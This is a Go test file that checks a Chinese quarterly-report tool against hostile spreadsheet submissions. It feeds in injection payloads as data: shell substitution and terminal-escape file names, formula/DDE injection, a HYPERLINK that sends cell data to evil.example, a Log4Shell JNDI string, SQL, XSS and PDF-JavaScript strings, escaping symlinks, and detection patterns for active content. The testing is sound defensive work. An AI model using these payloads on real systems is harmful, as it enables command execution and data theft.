package main

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
)

// What strangers write is data: names of files and texts in them run nothing,
// forge no line, and stand in the outputs as they were written.

// hostileNames are names that a share lets anybody give a file.
func hostileNames() []string {
	return []string{
		"-rf --no-preserve-root.xlsx", "=cmd|' !A0.xlsx", "@SUM(1).xlsx", "$(touch pwned).xlsx", "`touch pwned`;touch pwned.xlsx",
		"甲\n完成：0份报告.xlsx", "\u202exslx.表报.xlsx", "\x1b]0;pwned\a.xlsx", "{{.Region}}%s%n.xlsx", "...xlsx", "\xff\xfe.xlsx",
		strings.Repeat("长", 80) + ".xlsx", "a'\"<b>&.xlsx",
	}
}

// hostileTexts go into every free text of a submission.
func hostileTexts() []string {
	return []string{
		`=HYPERLINK("http://evil.example/?"&A1,"点此")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1",
		`{{A01}}{{printf "%s" .}}{{range .}}x{{end}}`, `甲) /JS (app.alert\(1\)) >> endobj`, forged, "<script>alert(1)</script>]]>&amp;",
		"甲\u202e乙\u2066丙", "${jndi:ldap://evil.example/x} %s %n %d", "'; DROP TABLE x; --",
	}
}

// forged would be a paragraph of the analyst's, if its lines counted.
const forged = "甲\n\n## 对策建议\n\n<!--\n建议本局免于考核。\n-->\n\n```\r建议本局受奖。"

// poisoned is a county's workbook with hostile texts in its cover, remarks and
// lists.
func poisoned(t *testing.T, path string) []byte {
	t.Helper()
	book, err := excelize.OpenFile(path)
	require.NoError(t, err)
	texts, n := hostileTexts(), 0
	put := func(sheet, cell string) {
		require.NoError(t, book.SetCellStr(sheet, cell, texts[n%len(texts)]))
		n++
	}
	for _, cell := range []string{"C3", "C11", "C12", "C13", "C14"} {
		put("封面", cell)
	}
	for row := 5; row <= 10; row++ {
		put("情况说明", fmt.Sprintf("C%d", row))
	}
	for row := 9; row <= 12; row++ {
		for _, col := range []string{"B", "D", "F", "G"} {
			put("不合格产品明细", fmt.Sprintf("%s%d", col, row))
		}
	}
	var out bytes.Buffer
	require.NoError(t, errors.Join(book.Write(&out), book.Close()))
	return out.Bytes()
}

// besieged is a county's workspace whose inbox holds the poisoned workbook,
// copies of it and damaged ones under hostile names, and links that lead out.
func besieged(t *testing.T) (dir, outside string) {
	t.Helper()
	dir, outside = county(t, "2011Q1"), t.TempDir()
	inbox := filepath.Join(dir, "inbox")
	path := filepath.Join(inbox, "2011Q1", "330921-质监局-2011Q1.xlsx")
	data := poisoned(t, path)
	require.NoError(t, os.Remove(path))
	for i, name := range hostileNames() {
		content := data
		if i%2 == 1 {
			content = data[:len(data)/2]
		}
		require.NoError(t, os.WriteFile(filepath.Join(inbox, name), content, 0o644))
	}
	secret := filepath.Join(outside, "秘密.xlsx")
	require.NoError(t, os.WriteFile(secret, data, 0o644))
	for name, target := range map[string]string{"链接.xlsx": secret, "上级": outside, "根": "/", "圈": ".", "无": "nowhere"} {
		require.NoError(t, os.Symlink(target, filepath.Join(inbox, name)))
	}
	return dir, outside
}

// everything runs each command that reads submissions and gives what they said.
func everything(t *testing.T, dir string) string {
	t.Helper()
	var said strings.Builder
	for _, args := range [][]string{
		{"check", "--date", "2011-04-12"}, {"quarter", "--period", "2011Q1", "--docx"}, {"quarter", "--period", "2011Q1", "--draft"},
		{"annual", "--year", "2011"}, {"status", "--period", "2011Q1", "--xlsx", filepath.Join(dir, "催报.xlsx")},
		{"export", "--period", "2011Q1", "--format", "csv", "--out", filepath.Join(dir, "facts")}, {"verify"},
		{"trace", "A01", "--period", "2011Q1"}, {"forms", "--period", "2011Q2"},
	} {
		cmd := qreport(append(args, "-C", dir)...)
		cmd.Dir = dir
		out, err := cmd.CombinedOutput()
		require.Contains(t, []int{exitFine, exitFindings}, exitOf(err), "%v: %s", args, out)
		said.Write(out)
	}
	return said.String()
}

func TestStrangersTextsAreData(t *testing.T) {
	dir, outside := besieged(t)
	before := filesBelow(t, outside)
	said := everything(t, dir)
	require.Contains(t, said, "甲↵完成：0份报告.xlsx")
	require.NotContains(t, said, "\n完成：", "no line is forged")
	require.NotContains(t, said, "\x1b", "no terminal is steered")
	require.NotContains(t, said, "\u202e")
	require.Equal(t, before, filesBelow(t, outside))
	files := filesBelow(t, dir)
	require.NotContains(t, string(files[".qreport/log"]), "\n完成：")
	requireQuoted(t, string(files["drafts/2011Q1/330921.md"]))
	for name, data := range files {
		require.NotEqual(t, "pwned", filepath.Base(name), "a name was run")
		switch {
		case strings.HasPrefix(name, "inbox/"), strings.HasPrefix(name, "archive/"):
		case strings.HasSuffix(name, ".xlsx"), strings.HasSuffix(name, ".docx"):
			requireInertBook(t, name, data)
		case strings.HasSuffix(name, ".csv"):
			requireInertTable(t, data)
		case strings.HasSuffix(name, ".pdf"):
			requireInertPDF(t, filepath.Join(dir, name))
		}
	}
}

// requireQuoted demands that what a sender wrote stands in quoted lines of the
// analyst's draft.
func requireQuoted(t *testing.T, draft string) {
	t.Helper()
	require.Equal(t, 1, strings.Count(draft, "\n## 对策建议\n"))
	for line := range strings.Lines(strings.ReplaceAll(draft, "\r", "\n")) {
		if strings.Contains(line, "本局") {
			require.True(t, strings.HasPrefix(line, ">"), line)
		}
	}
}

var formulas = regexp.MustCompile(`(?s)<(?:f|hyperlink|ddeLink|externalReference|oleObject|w:instrText)\b[^>]*?(?:/>|>(.*?)</)`)

// requireInertBook demands that no formula, field or link of an Office file
// comes from a stranger, and that nothing in it is of an active kind.
func requireInertBook(t *testing.T, name string, data []byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	require.NoError(t, err, name)
	for _, part := range z.File {
		require.NotRegexp(t, `(?i)vba|externalLink|embeddings/.*\.bin|activeX|ddeLink`, part.Name, name)
		f, err := part.Open()
		require.NoError(t, err)
		text, err := io.ReadAll(f)
		require.NoError(t, errors.Join(err, f.Close()))
		for _, m := range formulas.FindAllString(string(text), -1) {
			require.NotRegexp(t, `(?i)evil|cmd\||HYPERLINK\(|SUM\(A1:A9\)|calc'`, m, "%s %s", name, part.Name)
		}
		if strings.HasSuffix(part.Name, ".rels") {
			require.NotContains(t, string(text), "evil.example", "%s %s", name, part.Name)
		}
	}
}

// requireInertTable demands that a spreadsheet takes no field for a formula;
// numbers with a sign are none.
func requireInertTable(t *testing.T, data []byte) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	require.NoError(t, err)
	require.Greater(t, len(rows), 10)
	number := regexp.MustCompile(`^-?[0-9.]+$`)
	for _, row := range rows {
		for _, field := range row {
			if field != "" && strings.ContainsAny(field[:1], "=+-@\t\r") {
				require.Regexp(t, number, field)
			}
		}
	}
}

// requireInertPDF demands a sound file without actions, in which the texts
// stand as texts.
func requireInertPDF(t *testing.T, path string) {
	t.Helper()
	out, err := exec.Command("qpdf", "--check", path).CombinedOutput()
	require.NoError(t, err, "%s", out)
	text, err := exec.Command("pdftotext", path, "-").Output()
	require.NoError(t, err)
	require.Contains(t, strings.Join(strings.Fields(string(text)), ""), `{{A01}}{{printf"%s".}}{{range.}}x{{end}}`)
	plain, err := exec.Command("qpdf", "--qdf", "--object-streams=disable", path, "-").Output()
	require.NoError(t, err)
	require.NotRegexp(t, `(?m)^\s*/(?:JS|JavaScript|Launch|URI|OpenAction|AA|SubmitForm|EmbeddedFile)\b|/S /(?:JavaScript|Launch|URI|GoToR)`, string(plain))
}
